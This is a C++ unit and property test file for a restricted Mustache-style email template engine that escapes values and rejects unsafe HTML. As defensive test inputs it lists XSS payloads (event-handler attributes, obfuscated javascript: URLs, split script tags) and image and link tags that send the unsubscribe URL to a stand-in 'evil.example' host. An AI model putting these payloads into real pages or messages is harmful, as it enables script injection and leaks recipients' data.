#include "domain/template_text.h"

#include <random>
#include <regex>
#include <string>
#include <vector>

#include "domain/template_markup.h"
#include "fmt/format.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "mstch/mstch.hpp"
#include "rapidcheck/gtest.h"

namespace retrace::domain {
namespace {

constexpr size_t kRoom = 1 << 20;

TemplateValues Sample() {
  TemplateValues values;
  values.texts = {{"actor", "Bo"},
                  {"reason", "too old\nand \"odd\""},
                  {"count", "12"},
                  {"more_count", "10"},
                  {"unsubscribe_url", "https://crm/u/1?a=b&c=d"}};
  values.flags = {"more", "listed"};
  values.entities = {{"tenants/t/customers/a", "Acme & Sons"},
                     {"tenants/t/customers/b", "北京<b>"}};
  return values;
}

std::string Shown(std::string_view text, TemplateForm form = TemplateForm::kText,
                  const TemplateValues& values = Sample()) {
  const TemplateText read(text, form);
  EXPECT_FALSE(read.fault()) << text << ": " << read.fault()->problem;
  return read.Render(values, kRoom).value_or("(nothing)");
}

// e.g. "2:5 There is no ..."
std::string FaultOf(std::string_view text, TemplateForm form = TemplateForm::kText) {
  const TemplateText read(text, form);
  EXPECT_EQ(read.Render(Sample(), kRoom).has_value(), !read.fault());
  return read.fault() ? fmt::format("{}:{} {}", read.fault()->line, read.fault()->column,
                                    read.fault()->problem)
                      : "";
}

TEST(TemplateTextTest, ShowsValuesAndSections) {
  EXPECT_EQ(Shown("By {{actor}}, {{ count }}."), "By Bo, 12.");
  EXPECT_EQ(Shown("{{#reason}}Why: {{reason}}{{/reason}}"), "Why: too old\nand \"odd\"");
  EXPECT_EQ(Shown("{{#message}}no{{/message}}{{^message}}yes{{/message}}"), "yes");
  EXPECT_EQ(Shown("{{#more}}+{{more_count}}{{/more}}{{#single}}one{{/single}}"), "+10");
  EXPECT_EQ(Shown("{{#entities}}[{{title}}]{{/entities}} {{title}}"),
            "[Acme & Sons][北京<b>] Acme & Sons");
  EXPECT_EQ(Shown("{{^entities}}none{{/entities}}{{title}}", TemplateForm::kText, {}), "none");
  EXPECT_EQ(Shown("a{{! {{not shown }}b"), "ab");
  EXPECT_EQ(Shown("100 % {sure} }} 中文"), "100 % {sure} }} 中文");
}

TEST(TemplateTextTest, TakesLinesOfTagsAlone) {
  EXPECT_EQ(Shown("a\n  {{#more}}  \nb\n{{/more}}\nc"), "a\nb\nc");
  EXPECT_EQ(Shown("{{#more}}\r\nb\r\n{{/more}}"), "b\r\n");
  EXPECT_EQ(Shown("{{! first }}\nb"), "b");
  EXPECT_EQ(Shown("a {{#more}}\nb{{/more}}\n"), "a \nb\n");
  EXPECT_EQ(Shown("{{actor}}\n{{actor}}\n"), "Bo\nBo\n");
}

TEST(TemplateTextTest, EscapesByForm) {
  TemplateValues values = Sample();
  values.texts["actor"] = "<script>\r\n\"'&\x01\x7f";
  values.texts["reason"] = "a\r\nb\rc\x02";
  EXPECT_EQ(Shown("{{actor}}|{{reason}}", TemplateForm::kHtml, values),
            "&lt;script&gt; &quot;&#39;&amp;|a<br>\nb<br>\nc");
  EXPECT_EQ(Shown("{{actor}}|{{reason}}", TemplateForm::kText, values), "<script> \"'&|a\nb\nc");
  EXPECT_EQ(Shown("{{actor}}|{{reason}}", TemplateForm::kSubject, values), "<script> \"'&|a b c");
  EXPECT_EQ(Shown("  {{actor}}  ", TemplateForm::kSubject, {}), "");
}

// NEL, line and paragraph separators end lines, too; overrides would turn around what follows.
TEST(TemplateTextTest, KeepsOneLineOneLineInAnyScript) {
  TemplateValues values = Sample();
  values.texts["actor"] = "a\u0085b\u2028c\u2029d\u009be";
  values.texts["reason"] = "a\u0085b\u2028c\u2029\u202edx\u2066y\u2069.";
  EXPECT_EQ(Shown("{{actor}}", TemplateForm::kText, values), "a b c d e");
  EXPECT_EQ(Shown("{{actor}}", TemplateForm::kSubject, values), "a b c d e");
  EXPECT_EQ(Shown("{{actor}}", TemplateForm::kHtml, values), "a b c d e");
  EXPECT_EQ(Shown("{{reason}}", TemplateForm::kText, values), "a\nb\nc\ndxy.");
  EXPECT_EQ(Shown("{{reason}}", TemplateForm::kHtml, values), "a<br>\nb<br>\nc<br>\ndxy.");
  values.texts["actor"] = "\u202egpj.exe\u202c 北京 é\u00a0x";
  EXPECT_EQ(Shown("{{actor}}", TemplateForm::kText, values), "gpj.exe 北京 é\u00a0x");
}

TEST(TemplateTextTest, PassesOverAByteOrderMark) {
  EXPECT_EQ(Shown("\ufeff{{! remark }}\nHello"), "Hello");
  EXPECT_EQ(FaultOf("\ufeff{{titel}}"), "1:1 There is no \"titel\"; perhaps title is meant.");
}

TEST(TemplateTextTest, ListsWhereThereMayBeNone) {
  const std::string text =
      "{{^entities}}none{{#entities}}{{title}}{{/entities}}{{/entities}}{{#entities}}."
      "{{^entities}}x{{/entities}}{{/entities}}";
  EXPECT_EQ(Shown(text), "..");
  EXPECT_EQ(Shown(text, TemplateForm::kText, {}), "none");
}

TEST(TemplateTextTest, SaysWhereItIsWrong) {
  EXPECT_EQ(FaultOf("a\n北京{{titlle}}"), "2:3 There is no \"titlle\"; perhaps title is meant.");
  EXPECT_EQ(FaultOf("{{titel}}"), "1:1 There is no \"titel\"; perhaps title is meant.");
  EXPECT_EQ(FaultOf("{{zebra_crossing}}"), "1:1 There is no \"zebra_crossing\".");
  EXPECT_EQ(FaultOf("{{.}}"), "1:1 There is no \".\".");
  EXPECT_EQ(FaultOf("{{#more}}"), "1:1 The section more is not closed; {{/more}} is missing.");
  EXPECT_EQ(FaultOf("a{{/more}}"), "1:2 The section more is closed but was not opened.");
  EXPECT_EQ(FaultOf("{{#more}}{{#single}}{{/more}}{{/single}}"),
            "1:21 more is closed where single is open; close that first.");
  EXPECT_EQ(FaultOf("a {{actor"), "1:3 The tag is not closed; }} is missing.");
  EXPECT_EQ(FaultOf("a {{actor\n{{reason}}"), "1:3 The tag is not closed; }} is missing.");
  EXPECT_EQ(FaultOf("{{}}"), "1:1 The tag names nothing.");
  EXPECT_EQ(FaultOf("{{# }}"), "1:1 The tag names nothing.");
  EXPECT_EQ(FaultOf("{{{actor}}}"), "1:1 Values are always escaped; write the name in two braces.");
  EXPECT_EQ(FaultOf("{{& actor}}"), "1:1 Values are always escaped; write the name in two braces.");
  EXPECT_EQ(FaultOf("{{> other}}"), "1:1 A template cannot include another one.");
  EXPECT_EQ(FaultOf("{{=<% %>=}}"), "1:1 The delimiters are always {{ and }}.");
  EXPECT_EQ(FaultOf("{{more}}"), "1:1 more is a section: {{#more}} ... {{/more}}.");
  EXPECT_EQ(FaultOf("{{entities}}"), "1:1 entities is a section: {{#entities}} ... {{/entities}}.");
  EXPECT_EQ(FaultOf("{{#entities}}{{#entities}}{{/entities}}{{/entities}}"),
            "1:14 entities stands within itself.");
}

TEST(TemplateTextTest, KeepsLimits) {
  EXPECT_EQ(FaultOf(std::string(300, 'x'), TemplateForm::kSubject), "");
  EXPECT_EQ(FaultOf(std::string(301, 'x'), TemplateForm::kSubject),
            "1:301 It is longer than 300 bytes.");
  EXPECT_EQ(FaultOf("a\nb", TemplateForm::kSubject), "1:2 A subject has one line.");
  EXPECT_EQ(FaultOf("a\rb", TemplateForm::kSubject), "1:2 A subject has one line.");
  EXPECT_EQ(FaultOf(std::string(16 << 10, 'x')), "");
  EXPECT_EQ(FaultOf("\n" + std::string(16 << 10, 'x')), "2:16384 It is longer than 16384 bytes.");
  EXPECT_EQ(FaultOf(std::string(40 << 10, 'x'), TemplateForm::kHtml), "");
  EXPECT_EQ(FaultOf(std::string((40 << 10) + 1, 'x'), TemplateForm::kHtml),
            "1:40961 It is longer than 40960 bytes.");
  std::string deep;
  for (int i = 0; i < 8; ++i) deep = "{{#more}}" + deep + "{{/more}}";
  EXPECT_EQ(FaultOf(deep), "");
  EXPECT_EQ(FaultOf("{{#more}}" + deep + "{{/more}}"), "1:73 Sections go at most 8 deep.");
}

// A few KiB of template could become hundreds of megabytes.
TEST(TemplateTextTest, ShowsNoMoreThanThereIsRoom) {
  const TemplateText read("{{#entities}}{{actor}}{{/entities}}", TemplateForm::kText);
  EXPECT_EQ(read.Render(Sample(), 4), "BoBo");
  EXPECT_EQ(read.Render(Sample(), 3), std::nullopt);
}

TEST(TemplateTextTest, KeepsValuesOutOfTags) {
  const auto html = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  EXPECT_EQ(html("<p class=\"a>b\">{{title}} < {{count}} <br/></p><!-- x > --><!-->{{title}}"), "");
  EXPECT_EQ(html("<style>p > a { color: red }</style>{{title}}"), "");
  EXPECT_EQ(html("<a href=\"{{unsubscribe_url}}\">x</a><a href = '{{unsubscribe_url}}'>x</a>"), "");
  EXPECT_EQ(html("<p>{{#more}}<b>{{more_count}}</b>{{/more}}</p>"), "");
  EXPECT_THAT(html("<a href=\"{{title}}\">x</a>"),
              ::testing::StartsWith("1:10 title cannot stand"));
  EXPECT_THAT(html("<a href={{unsubscribe_url}}>x</a>"),
              ::testing::StartsWith("1:9 unsubscribe_url cannot stand"));
  EXPECT_THAT(html("<{{title}}>"), ::testing::StartsWith("1:2 title cannot stand behind <"));
  EXPECT_THAT(html("<p{{title}}>"), ::testing::StartsWith("1:3 The name of a tag"));
  EXPECT_THAT(html("<p {{title}}>"), ::testing::StartsWith("1:4 title cannot stand"));
  EXPECT_THAT(html("<!-- {{title}} -->"), ::testing::StartsWith("1:6 title cannot stand"));
  EXPECT_THAT(html("<style>{{title}}</style>"), ::testing::StartsWith("1:8 title cannot stand"));
  EXPECT_THAT(html("<SCRIPT>x</SCRIPT>"), ::testing::StartsWith("1:2 A message has no <script>"));
  EXPECT_THAT(html("<scr{{#more}}ipt{{/more}}>"), ::testing::StartsWith("1:5 The name of a tag"));
  EXPECT_THAT(html("{{#more}}<p {{/more}}>"), ::testing::StartsWith("1:1 The section more must"));
  EXPECT_THAT(html("<a x='{{#more}}'{{/more}}>"), ::testing::StartsWith("1:7 The section more"));
  EXPECT_THAT(html("<p"), ::testing::StartsWith("1:3 The markup ends inside"));
}

// What runs by itself, or leads where no page is.
TEST(TemplateTextTest, KeepsScriptsOut) {
  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  for (const char* text : {
           "<img src=https://x/y onerror=alert(1)>",
           "<img/ONERROR = 'alert(1)'>",
           "<p onclick>x</p>",
           "<p x='1'onload=\"alert(1)\">x</p>",
           "<a href=\"javascript:alert(1)\">x</a>",
           "<a href=' JavaScript:alert(1)'>x</a>",
           "<a href=\"java\nscript:alert(1)\">x</a>",
           "<a href=\"&#106;avascript:alert(1)\">x</a>",
           "<a href=javascript:alert(1)>x</a>",
           "<a href=\"javascript:{{unsubscribe_url}}\">x</a>",
           "<a href=\"{{#more}}https:{{/more}}javascript:x\">x</a>",
           "<img src=\"data:text/html,x\">",
           "<svg onload=alert(1)></svg>",
           "<svg></svg>",
           "<base href=\"https://x/\">",
           "<textarea></textarea>",
           "<meta http-equiv=refresh content='0;url=https://x/'>",
           "<link rel=stylesheet href=https://x/y.css>",
           "<form action=https://x/><input name=password><button>Go</button></form>",
           "<input name=password>",
           "<img srcset=\"javascript:1\">",
           "<a ping='javascript:1' href='#'>x</a>",
       }) {
    EXPECT_NE(fault(text), "") << text;
  }
  EXPECT_EQ(fault("<a href=\"https://x/?a=1&amp;b=2\" class=on>x</a><a href=mailto:a@b.c>y</a>"
                  "<a href='#top'>z</a><img src=HTTPS://x/y.png alt=\"one\"><a name href>w</a>"),
            "");
}

// As browsers read it: a quote is one only behind the `=` of a name, and text is text until its own
// end.
TEST(TemplateTextTest, ReadsTagsAsBrowsersDo) {
  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  for (const char* text : {
           "<a =\"><a href=\"> {{title}}\">x</a>",
           "<a \"=\"><a href=\"> {{title}}\">x</a>",
           "<style></a>{{title}}</style>",
           "<style></styles>{{title}}</style>",
           "<title>\"<a x='</title><a x='>{{title}}'>",
           "<!x a=\"><p title=\">{{title}}\">",
           "</ a=\"><p title=\">{{title}}\">",
           "<p a=b\"><p title=\">{{title}}\">",
       }) {
    EXPECT_NE(fault(text), "") << text;
  }
  EXPECT_EQ(fault("<style></a> > b { }</STYLE >{{title}}<title>{{count}} gone</title>"
                  "<!DOCTYPE html PUBLIC \"x\">{{title}}<p a = b c d='e>'>{{title}}</p>"),
            "");
}

// What is not shown, or not always, or is not known yet hides no markup from the reader.
TEST(TemplateTextTest, JoinsWhatTagsOfTheTemplatePart) {
  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  for (const char* splitter :
       {"{{! x}}", "{{!}}", "{{#more}}{{/more}}", "{{^more}}{{/more}}", "{{title}}"}) {
    for (const char* text : {
             "<!-- --%><script>alert(1)</script><!-- -->",
             "<!-- --%!><script>alert(1)</script><!-- -->",
             "<!-- -%-><script>alert(1)</script><!-- -->",
             "<style></sty%le><script>alert(1)</script><style></style>",
             "<style></%style><script>alert(1)</script><style></style>",
             "<style></style%><script>alert(1)</script><style></style>",
             "<!%-- ><a title=\"--><script>alert(1)</script>\">x</a>",
             "<!-%- ><a title=\"--><script>alert(1)</script>\">x</a>",
             "<title></ti%tle><a href=\"{{title}}\">x</a><title></title>",
             "<%script>alert(1)</script>",
         }) {
      std::string split = text;
      split.replace(split.find('%'), 1, splitter);
      EXPECT_NE(fault(split), "") << split;
    }
  }
  EXPECT_EQ(fault("<!-- - {{! x}} --{{! x}}><p>{{! x}}a {{! x}}< b</{{! x}}p><{{! x}}!-- -->"), "");
  EXPECT_EQ(fault("<style>a < b {{#more}}p{{/more}} < {{! x}}</sty{{! x}}le>{{title}}"), "");
  EXPECT_EQ(fault("a <{{count}}"),
            "1:4 count cannot stand behind <, which would begin or end markup with what follows.");
}

// `<!-->` and `<!--->` are comments, `<!--!>` begins one.
TEST(TemplateTextTest, EndsCommentsAsBrowsersDo) {
  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  for (const char* text : {"<!-->", "<!--->", "<!---->", "<!----!>", "<!-- --->", "<!-- <!-->",
                           "<!-- --!>", "<!-- --!-->", "<!--!-->"}) {
    EXPECT_EQ(fault(std::string(text) + "{{title}}"), "") << text;
  }
  for (const char* text : {"<!--!>", "<!---!>", "<!-- ->", "<!-- -!>", "<!-- --!->", "<!-- -- >"}) {
    EXPECT_NE(fault(std::string(text) + "{{title}}<!-- -->"), "") << text;
  }
}

// Any other address would learn of it when the mail is opened.
TEST(TemplateTextTest, GivesTheUnsubscribeUrlToNobodyElse) {
  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
  for (const char* text : {
           "<img src=\"https://evil.example/p?u={{unsubscribe_url}}\">",
           "<img src=\"{{unsubscribe_url}}\">",
           "<a href=\"https://evil.example/?u={{unsubscribe_url}}\">x</a>",
           "<a href=\"{{unsubscribe_url}}.evil.example\">x</a>",
           "<a href=\"{{unsubscribe_url}}{{unsubscribe_url}}\">x</a>",
           "<p title=\"{{unsubscribe_url}}\">x</p>",
       }) {
    EXPECT_NE(fault(text), "") << text;
  }
}

class Random {
 public:
  explicit Random(uint64_t seed) : engine_(seed) {}
  size_t Below(size_t bound) { return engine_() % bound; }
  template <typename T>
  const T& Of(const std::vector<T>& choices) {
    return choices[Below(choices.size())];
  }

 private:
  std::mt19937_64 engine_;
};

const std::vector<std::string>& Sections() {
  static const std::vector<std::string> names = {"more", "single", "reason", "message", "listed"};
  return names;
}

std::string RandomTemplate(Random& random, int depth, bool in_list) {
  static const std::vector<std::string> literals = {"a",    "\n",  " ", "中",
                                                    "\n\n", "x y", "}", "\n  "};
  static const std::vector<std::string> values = {"actor", "title", "count", "message", "name"};
  std::string text;
  for (size_t i = random.Below(7); i > 0; --i) {
    const size_t what = random.Below(depth > 0 ? 6 : 4);
    if (what < 2) {
      text += random.Of(literals);
    } else if (what == 2) {
      text += fmt::format("{{{{{}}}}}", random.Of(values));
    } else if (what == 3) {
      text += "{{! remark }}";
    } else {
      const bool list = !in_list && random.Below(3) == 0;
      const std::string name = list ? "entities" : random.Of(Sections());
      const char sigil = random.Below(3) == 0 ? '^' : '#';
      text += fmt::format("{{{{{}{}}}}}{}{{{{/{}}}}}", sigil, name,
                          RandomTemplate(random, depth - 1, in_list || list), name);
    }
  }
  return text;
}

mstch::node ToMstch(const TemplateValues& values) {
  mstch::map map;
  for (const char* name : {"actor", "reason", "message", "count"}) {
    const auto found = values.texts.find(name);
    map[name] = found == values.texts.end() ? std::string() : found->second;
  }
  for (const char* flag : {"more", "single", "listed"}) map[flag] = values.flags.contains(flag);
  mstch::array entities;
  for (const auto& entity : values.entities) {
    entities.push_back(mstch::map{{"name", entity.name}, {"title", entity.title}});
  }
  map["name"] = values.entities.empty() ? std::string() : values.entities[0].name;
  map["title"] = values.entities.empty() ? std::string() : values.entities[0].title;
  map["entities"] = entities;
  return map;
}

TemplateValues RandomValues(Random& random) {
  TemplateValues values;
  for (const char* name : {"actor", "reason", "message", "count"}) {
    if (random.Below(2) == 0) values.texts[name] = "v" + std::string(name);
  }
  for (const char* flag : {"more", "single", "listed"}) {
    if (random.Below(2) == 0) values.flags.insert(flag);
  }
  for (size_t i = random.Below(3); i > 0; --i) {
    values.entities.push_back({fmt::format("n{}", i), fmt::format("t{}", i)});
  }
  return values;
}

std::string WithoutBlanks(std::string text) {
  std::erase_if(text, [](char c) { return c == ' ' || c == '\n'; });
  return text;
}

// What both know they show alike, but for the lines of tags: of several tags on a line without text
// each implementation of Mustache thinks otherwise.
RC_GTEST_PROP(TemplateTextPropertyTest, MeansWhatMustacheMeans, (uint64_t seed)) {
  Random random(seed);
  const std::string text = RandomTemplate(random, 4, false);
  const TemplateValues values = RandomValues(random);
  const TemplateText read(text, TemplateForm::kText);
  RC_ASSERT(!read.fault());
  RC_LOG() << text;
  RC_ASSERT(WithoutBlanks(*read.Render(values, kRoom)) ==
            WithoutBlanks(mstch::render(text, ToMstch(values))));
}

// Pieces of the language and of markup in any order.
std::string Garbage(Random& random) {
  static const std::vector<std::string> pieces = {"{{",        "}}",        "{",
                                                  "}",         "#",         "/",
                                                  "^",         "!",         "more",
                                                  "entities",  "title",     "actor",
                                                  "\n",        "\r",        " ",
                                                  "<",         ">",         "\"",
                                                  "'",         "=",         "<a href=",
                                                  "-->",       "<!--",      "<style>",
                                                  "</style>",  "<p>",       "unsubscribe_url",
                                                  "{{title}}", "{{#more}}", "{{/more}}",
                                                  "\xff",      "北",        std::string(1, '\0')};
  std::string text;
  for (size_t i = random.Below(30); i > 0; --i) text += random.Of(pieces);
  return text;
}

// Whatever is read is either refused, with a place in the text, or can be shown.
RC_GTEST_PROP(TemplateTextPropertyTest, ReadsAnything, (uint64_t seed)) {
  Random random(seed);
  const std::string text = Garbage(random);
  for (const TemplateForm form :
       {TemplateForm::kSubject, TemplateForm::kText, TemplateForm::kHtml}) {
    const TemplateText read(text, form);
    const auto shown = read.Render(Sample(), kRoom);
    RC_ASSERT(shown.has_value() == !read.fault().has_value());
    if (read.fault()) {
      RC_ASSERT(read.fault()->line >= 1);
      RC_ASSERT(read.fault()->column >= 1);
      RC_ASSERT(!read.fault()->problem.empty());
    } else if (form == TemplateForm::kSubject) {
      RC_ASSERT(shown->find_first_of("\r\n") == std::string::npos);
    }
  }
}

// Tags, comments and style sheets.
std::vector<std::string> Markup(const std::string& shown) {
  static const std::regex markup(
      R"(<!--(?:-?>|[^]*?--!?>)|<style[^>]*>[^]*?</style|</>|<(?:[!?]|/[^A-Za-z>])[^>]*>|</?[A-Za-z](?:="[^"]*"|='[^']*'|[^>])*>)");
  return {std::sregex_token_iterator(shown.begin(), shown.end(), markup), {}};
}

// Pieces that are markup only together.
std::string SplitMarkup(Random& random) {
  static const std::vector<std::string> pieces = {
      "<",         "!",         "-",         "--",     ">",      "/",       "<!--",
      "-->",       "style",     "sty",       "le>",    "<p ",    "<style>", "</style>",
      "=",         "\"",        " ",         "script", "<title", "title",   "{{title}}",
      "{{#more}}", "{{/more}}", "{{^more}}", "{{!}}",  "{{!}}",  "a",       "href"};
  std::string text;
  for (size_t i = 1 + random.Below(10); i > 0; --i) text += random.Of(pieces);
  return text;
}

// What is shown reads as the template did: what was accepted has nothing in it that is refused.
RC_GTEST_PROP(TemplateTextPropertyTest, WhatIsShownIsWhatWasRead, (uint64_t seed)) {
  Random random(seed);
  for (int tries = 0; tries < 500; ++tries) {
    const std::string text = SplitMarkup(random);
    const TemplateText read(text, TemplateForm::kHtml);
    for (const bool more : {false, true}) {
      TemplateValues values;
      values.entities = {{"n", "--><script>\"'"}};
      if (more) values.flags = {"more"};
      const auto shown = read.Render(values, kRoom);
      if (!shown) continue;
      TemplateNode whole;
      whole.text = *shown;
      RC_LOG() << text << "\n" << *shown << "\n";
      RC_ASSERT(!MarkupFault(*shown, {whole}));
    }
  }
}

// The markup is what the template has, whatever the values hold.
RC_GTEST_PROP(TemplateTextPropertyTest, ValuesBringNoMarkup, (uint64_t seed)) {
  Random random(seed);
  std::string text;
  // Nearly all garbage is refused: what is not, and has values beside markup, is looked for.
  for (int tries = 0; tries < 2000; ++tries) {
    text = Garbage(random);
    if (text.find('<') != std::string::npos && text.find("{{title}}") != std::string::npos &&
        !TemplateText(text, TemplateForm::kHtml).fault()) {
      break;
    }
    text.clear();
  }
  RC_LOG() << text;
  const TemplateText read(text, TemplateForm::kHtml);
  TemplateValues plain;
  plain.entities = {{"n", "t"}};
  plain.texts = {{"actor", "a"}, {"unsubscribe_url", "u"}};
  TemplateValues hostile = plain;
  hostile.entities = {{"n", "x onload=1 --><b>\"'>"}};
  hostile.texts["actor"] = "/><script>alert(1)</script>";
  RC_ASSERT(Markup(*read.Render(plain, kRoom)) == Markup(*read.Render(hostile, kRoom)));
}

}  // namespace
}  // namespace retrace::domain
